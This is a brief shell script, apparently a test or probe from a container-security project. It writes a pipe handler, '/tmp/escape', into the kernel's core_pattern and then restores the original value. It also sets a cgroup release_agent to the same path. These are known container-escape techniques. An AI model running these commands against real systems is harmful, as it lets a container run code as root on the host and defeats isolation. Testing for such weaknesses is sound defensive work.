# SPDX-License-Identifier: Apache-2.0
cat /proc/sys/kernel/core_pattern > before
echo '|/tmp/escape %p' > /proc/sys/kernel/core_pattern
cat before > /proc/sys/kernel/core_pattern
mkdir -p cgroup
echo /tmp/escape > cgroup/release_agent
